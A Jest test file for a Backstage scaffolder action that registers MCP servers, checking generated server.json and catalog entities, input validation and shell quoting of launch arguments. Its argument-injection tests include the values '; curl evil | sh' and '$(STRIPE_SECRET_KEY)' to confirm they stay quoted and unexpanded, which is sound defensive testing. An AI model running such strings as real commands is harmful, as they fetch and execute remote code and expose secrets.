import { readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { createMockDirectory } from '@backstage/backend-test-utils';
import { createMockActionContext } from '@backstage/plugin-scaffolder-node-test-utils';
import {
  Assessment,
  Finding,
} from '@mcp-server-operator/plugin-mcp-security-common';
import { parse } from 'yaml';
import {
  assessmentOf,
  fromServerJson,
  profileOf,
} from '../__testUtils__/assessments';
import { deploymentPlanOf } from '../deployment/plan';
import { renderDeployment, validateRendering } from '../deployment/render';
import { createRegisterServerAction } from './registerServer';

function assessment(findings: Finding[] = []): Assessment {
  return {
    risk: { level: 'high', score: 55, factors: [] },
    trust: { tier: 'community', score: 40, signals: [] },
    findings,
  } as unknown as Assessment;
}

const npmInput = {
  name: 'orders-mcp',
  title: 'Orders MCP server',
  description: 'Looks up customer orders.',
  owner: 'group:default/payments-team',
  system: 'payments-platform',
  registryName: 'io.github.acme/orders-mcp',
  repositoryUrl: 'https://github.com/acme/orders-mcp',
  package: {
    registryType: 'npm' as const,
    identifier: '@acme/orders-mcp',
    version: '1.4.2',
    arguments: ['--read-only'],
  },
  context: {
    deploymentContext: 'production' as const,
    exposure: 'internal' as const,
    dataClassification: 'confidential' as const,
    capabilities: ['database-read' as const, 'financial-transactions' as const],
    isolation: 'container' as const,
    auth: 'oauth2' as const,
    egressAllowlist: ['api.acme.example'],
  },
};

describe('mcp-security:register-server', () => {
  const workspace = createMockDirectory();
  const advise = jest.fn();
  const action = createRegisterServerAction({ client: { advise } });

  beforeEach(() => {
    workspace.clear();
    advise.mockReset().mockResolvedValue(assessment());
  });

  async function run(input: Record<string, unknown>) {
    const ctx = createMockActionContext({
      input: input as any,
      workspacePath: workspace.path,
    });
    await action.handler(ctx);
    return ctx;
  }

  const readYaml = async (path: string) =>
    parse(await readFile(join(workspace.path, path), 'utf8'));
  const readJson = async (path: string) =>
    JSON.parse(await readFile(join(workspace.path, path), 'utf8'));

  it('builds server.json from a package and writes an MCP server entity with every declared fact', async () => {
    const ctx = await run(npmInput);

    const serverJson = await readJson('server.json');
    expect(serverJson).toMatchObject({
      name: 'io.github.acme/orders-mcp',
      version: '1.4.2',
      repository: { url: 'https://github.com/acme/orders-mcp' },
      packages: [
        {
          registryType: 'npm',
          identifier: '@acme/orders-mcp',
          version: '1.4.2',
          transport: { type: 'stdio' },
        },
      ],
    });
    expect(await readYaml('catalog-info.yaml')).toEqual({
      apiVersion: 'backstage.io/v1alpha1',
      kind: 'API',
      metadata: {
        name: 'orders-mcp',
        title: 'Orders MCP server',
        description: 'Looks up customer orders.',
        annotations: {
          'mcp-security.io/server-json': './server.json',
          'mcp-security.io/registry-name': 'io.github.acme/orders-mcp',
          'mcp-security.io/deployment-context': 'production',
          'mcp-security.io/exposure': 'internal',
          'mcp-security.io/data-classification': 'confidential',
          'mcp-security.io/capabilities':
            'database-read,financial-transactions',
          'mcp-security.io/isolation': 'container',
          'mcp-security.io/auth': 'oauth2',
          'mcp-security.io/egress-allowlist': 'api.acme.example',
        },
      },
      spec: {
        type: 'mcp-server',
        lifecycle: 'experimental',
        owner: 'group:default/payments-team',
        system: 'payments-platform',
        // The launch command, pinned, is what the backend checks for pinning.
        remotes: [
          { type: 'stdio', url: 'npx -y @acme/orders-mcp@1.4.2 --read-only' },
        ],
      },
    });
    expect(advise).toHaveBeenCalledWith(
      { serverJson, context: npmInput.context },
      expect.objectContaining({ principal: expect.anything() }),
    );
    expect(ctx.output).toHaveBeenCalledWith(
      'entityRef',
      'api:default/orders-mcp',
    );
    expect(ctx.output).toHaveBeenCalledWith(
      'catalogInfoPath',
      'catalog-info.yaml',
    );
    expect(ctx.output).toHaveBeenCalledWith('riskLevel', 'high');
    expect(ctx.output).toHaveBeenCalledWith('trustTier', 'community');
  });

  it('writes a given server.json as is, pasted as text, and takes the remotes from it', async () => {
    const given = {
      name: 'io.github.acme/docs',
      description: 'Docs search',
      version: '2.0.0',
      remotes: [
        { type: 'streamable-http', url: 'https://mcp.acme.example/docs' },
      ],
      _meta: { kept: true },
    };
    await run({
      name: 'docs',
      description: 'Docs search',
      owner: 'group:default/developer-experience',
      lifecycle: 'production',
      serverJson: JSON.stringify(given),
      targetPath: 'servers/docs',
    });

    expect(await readJson('servers/docs/server.json')).toEqual(given);
    const entity = await readYaml('servers/docs/catalog-info.yaml');
    expect(entity.spec).toMatchObject({
      lifecycle: 'production',
      remotes: [
        { type: 'streamable-http', url: 'https://mcp.acme.example/docs' },
      ],
    });
    expect(entity.metadata.annotations).toEqual({
      'mcp-security.io/server-json': './server.json',
      'mcp-security.io/registry-name': 'io.github.acme/docs',
    });
  });

  it('launches an OCI package with docker, keeping the tag in the image', async () => {
    await run({
      ...npmInput,
      package: {
        registryType: 'oci',
        identifier: 'ghcr.io/acme/orders-mcp',
        version: 'v1.4.2',
      },
    });
    expect((await readJson('server.json')).packages[0]).toMatchObject({
      registryType: 'oci',
      identifier: 'ghcr.io/acme/orders-mcp:v1.4.2',
    });
    expect((await readYaml('catalog-info.yaml')).spec.remotes).toEqual([
      {
        type: 'stdio',
        url: 'docker run -i --rm ghcr.io/acme/orders-mcp:v1.4.2',
      },
    ]);
  });

  it("turns the backend's schema findings into an input error naming the field, and writes nothing", async () => {
    advise.mockResolvedValue(
      assessment([
        {
          id: 'server-json-schema:packages.0.transport',
          source: 'server-json',
          severity: 'medium',
          field: 'server.json packages.0.transport',
          target: 'serverJson',
          message:
            'server.json does not match the MCP Registry schema at packages.0.transport: Invalid input.',
        },
      ]),
    );
    await expect(run(npmInput)).rejects.toMatchObject({
      name: 'InputError',
      message: expect.stringContaining('serverJson.packages.0.transport'),
    });
    expect(workspace.content()).toEqual({});
  });

  it('registers a risky but valid server: findings such as an unpinned package become recommendations, not errors', async () => {
    advise.mockResolvedValue(
      assessment([
        {
          id: 'package-unpinned:@acme/orders-mcp',
          source: 'server-json',
          severity: 'medium',
          field: 'server.json packages.0.version',
          message: 'not pinned',
        },
      ]),
    );
    await run(npmInput);
    expect(Object.keys(workspace.content()!)).toEqual(
      expect.arrayContaining(['catalog-info.yaml', 'server.json']),
    );
  });

  it.each([
    [
      'a bad name',
      { name: 'Orders MCP!' },
      /^name: "Orders MCP!" is not a valid entity name/,
    ],
    ['a bad owner ref', { owner: 'group:' }, /^owner: /],
    [
      'an unknown exposure',
      { context: { exposure: 'public' } },
      /^context\.exposure: /,
    ],
    [
      'an unknown capability',
      { context: { capabilities: ['mind-reading'] } },
      /^context\.capabilities\.0: /,
    ],
    [
      'server.json text that is not JSON',
      { serverJson: '{"name":' },
      /^serverJson: not valid JSON/,
    ],
    [
      'server.json that is not an object',
      { serverJson: '[1]' },
      /^serverJson: must be a JSON object/,
    ],
    [
      'no server.json, package or remote',
      { package: undefined },
      /^serverJson: give a server\.json, or a package or a remote/,
    ],
    [
      'no registry name to build with',
      { registryName: undefined },
      /^registryName: required/,
    ],
    [
      'a target outside the workspace',
      { targetPath: '../outside' },
      /^targetPath: /,
    ],
  ])(
    'refuses %s with an input error naming the field',
    async (_, change, message) => {
      const error = await run({ ...npmInput, ...change }).catch(e => e);
      expect(error).toMatchObject({ name: 'InputError' });
      expect(error.message).toMatch(message);
      expect(advise).not.toHaveBeenCalled();
      expect(workspace.content()).toEqual({});
    },
  );

  it('refuses an entity the catalog would reject, whatever the backend said', async () => {
    const serverJson = {
      name: 'io.github.acme/docs',
      description: 'Docs search',
      version: '2.0.0',
      remotes: [{ type: 'sse', url: '' }],
    };
    await expect(run({ ...npmInput, serverJson })).rejects.toThrow(
      /^The catalog would reject the entity: .*url/,
    );
    expect(workspace.content()).toEqual({});
  });

  describe('launch arguments', () => {
    const hostileArgs = [
      '--root',
      '/srv/shared files',
      "it's",
      '$(STRIPE_SECRET_KEY)',
      '; curl evil | sh',
    ];

    it('writes them into server.json in order, and quotes each in the launch command', async () => {
      await run({
        ...npmInput,
        package: { ...npmInput.package, arguments: hostileArgs },
      });
      const serverJson = await readJson('server.json');
      expect(serverJson.packages[0].packageArguments).toEqual(
        hostileArgs.map(value => ({ type: 'positional', value })),
      );
      expect((await readYaml('catalog-info.yaml')).spec.remotes).toEqual([
        {
          type: 'stdio',
          url: `npx -y @acme/orders-mcp@1.4.2 --root '/srv/shared files' 'it'\\''s' '$(STRIPE_SECRET_KEY)' '; curl evil | sh'`,
        },
      ]);
    });

    it('reach the rendered deployment, each one word, expanded by nothing', async () => {
      await run({
        ...npmInput,
        package: { ...npmInput.package, arguments: hostileArgs },
      });
      const profile = profileOf({
        name: 'io.github.acme/orders-mcp',
        ...fromServerJson(await readJson('server.json')),
      });
      const plan = deploymentPlanOf(assessmentOf(profile, 'medium'));
      const rendering = renderDeployment(plan, {
        targets: ['dockerfile', 'compose', 'kubernetes'],
        namespace: 'mcp',
      });
      validateRendering(rendering);
      expect(plan.bridge!.stdioCommand).toBe(
        `node /app/server --root '/srv/shared files' 'it'\\''s' '$(STRIPE_SECRET_KEY)' '; curl evil | sh'`,
      );
      const server = rendering.kubernetes.find(
        o => o.kind === 'Deployment' && o.metadata.name === plan.name,
      ) as any;
      expect(server.spec.template.spec.containers[0].args[1]).toContain(
        `'$$(STRIPE_SECRET_KEY)'`,
      );
    });

    it('are left out of the launch command of a given server.json, which declares its own', async () => {
      await run({
        ...npmInput,
        serverJson: {
          name: 'io.github.acme/orders-mcp',
          description: 'Orders',
          version: '1.4.2',
          packages: [
            {
              registryType: 'npm',
              identifier: '@acme/orders-mcp',
              version: '1.4.2',
              transport: { type: 'stdio' },
            },
          ],
        },
      });
      expect((await readYaml('catalog-info.yaml')).spec.remotes).toEqual([
        { type: 'stdio', url: 'npx -y @acme/orders-mcp@1.4.2' },
      ]);
    });
  });
});
